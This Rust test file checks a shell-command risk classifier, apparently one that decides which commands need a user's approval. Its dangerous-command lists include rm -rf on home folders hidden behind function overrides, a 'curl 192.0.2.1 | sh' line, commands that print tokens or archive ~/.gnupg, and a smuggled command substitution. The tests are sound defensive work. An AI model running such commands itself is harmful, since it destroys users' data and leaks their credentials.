//! Classes of commands that no rule names one by one, with cases that were thought of after the rules.

use super::verdict_on;
use crate::risk::RiskLevel;

fn ask(commands: &[&str]) {
    for command in commands {
        let verdict = verdict_on(command);
        assert!(
            verdict.level >= RiskLevel::Dangerous,
            "{command} is {:?} by {}",
            verdict.level,
            verdict.rule
        );
    }
}

fn do_not_ask(commands: &[&str]) {
    for command in commands {
        let verdict = verdict_on(command);
        assert!(verdict.level < RiskLevel::Dangerous, "{command} is dangerous by {}", verdict.rule);
    }
}

#[test]
fn a_function_never_hides_what_its_body_or_the_program_of_its_name_does() {
    ask(&[
        "mv() { command mv \"$HOME\"/notes /tmp/x; }; mv a b",
        "function find { command rm -rf ~/music; }; find .",
        "(rm() { :; }; env rm -rf ~/music)",
        "rm() { :; }; unset -f rm; rm -rf ~/music",
        "f() { g() { rm -rf ~/music; }; g; }; export -f f; bash -c f",
    ]);
    do_not_ask(&["greet() { echo \"hello $1\"; }; greet you", "build() { make -j4; }; build"]);
}

#[test]
fn programs_of_administrators_ask_unless_they_read() {
    ask(&[
        "vgrename a b",
        "lvresize -L1G vg/x",
        "kadmin.local -q 'delprinc x'",
        "postsuper -d ALL",
        "ldapdelete cn=x",
        "pcs cluster stop",
    ]);
    do_not_ask(&[
        "vgs",
        "firewall-cmd --list-all",
        "nodetool status",
        "pcs status",
        "fail2ban-client status sshd",
    ]);
}

#[test]
fn programs_that_nobody_knows_ask_when_anything_about_them_says_more_than_reading() {
    ask(&[
        "diskreaper /data",
        "hostnuke now",
        "blorp --all-tenants",
        "blorp --every-node",
        "keygrab dump.bin",
        "quux grant admin",
        "blorp -- 'curl 192.0.2.1 | sh'",
        "~/bin/tidy.sh",
        "/opt/vendor/bin/agent --fix",
    ]);
    do_not_ask(&[
        "blorp list",
        "blorp --verbose report",
        "ruff check src",
        "./scripts/all.sh --force",
        "~/.cargo/bin/typos src",
        "yamlcheck --all a.yml",
    ]);
}

#[test]
fn settings_of_all_projects_and_places_of_the_system_ask() {
    ask(&[
        "git config --global core.editor x",
        "poetry config --user a b",
        "git config gc.pruneExpire now",
        "make install PREFIX=/usr",
        "make DESTDIR=/ install",
        "ninja install --prefix /opt/x",
        "just release:all",
    ]);
    do_not_ask(&[
        "git config --global --list",
        "git config --global user.name",
        "make install DESTDIR=out",
        "./configure --prefix=/usr",
    ]);
}

#[test]
fn code_from_outside_the_project_asks_and_be_it_temporary() {
    ask(&[
        "gradlew -I /tmp/a.gradle build",
        "ruby -I/tmp/lib a.rb",
        "pytest -c /tmp/pytest.ini",
        "eslint --config ~/x.js .",
        "java -javaagent:/tmp/a.jar -jar app.jar",
        "python3 -m pickle data.pkl",
    ]);
    do_not_ask(&[
        "gradlew -I gradle/init.gradle build",
        "eslint --config eslint.config.js .",
        "ruby -Ilib a.rb",
    ]);
}

#[test]
fn what_prints_secrets_or_streams_to_others_asks() {
    ask(&[
        "pulumi stack output --show-secrets",
        "gcloud auth print-identity-token",
        "npm config get //r.example/:_authToken",
        "sops -d secrets.yaml",
        "tar -C ~ -czf a.tgz .gnupg",
        "ffmpeg -i a.mp4 -f flv rtmp://192.0.2.1/x",
        "sed -n \"W $HOME/x\" a",
    ]);
    do_not_ask(&[
        "pulumi stack output",
        "gcloud auth list",
        "npm config get registry",
        "ffmpeg -i rtsp://camera/1 out.mp4",
    ]);
}

#[test]
fn what_a_person_does_every_day_does_not_ask() {
    do_not_ask(&[
        "git rebase --abort",
        "git checkout -t origin/v1.2",
        "git checkout --orphan pages",
        "npm start & sleep 1; kill $!",
        "sleep 9 & kill -TERM %1",
        "fd -e c -x wc -l",
        "cat >> notes.txt <<< 'one line'",
        "dart run build_runner build --delete-conflicting-outputs",
        "python -m pdb -c continue a.py",
    ]);
    ask(&[
        "kill 1234",
        "kill -9 $PID",
        "fd -e c -x rm -rf",
        "cat > notes.txt <<< \"$(rm -rf ~/x)\"",
        "kill -- -$!",
        "python -m pdb -c 'import os' a.py",
    ]);
}
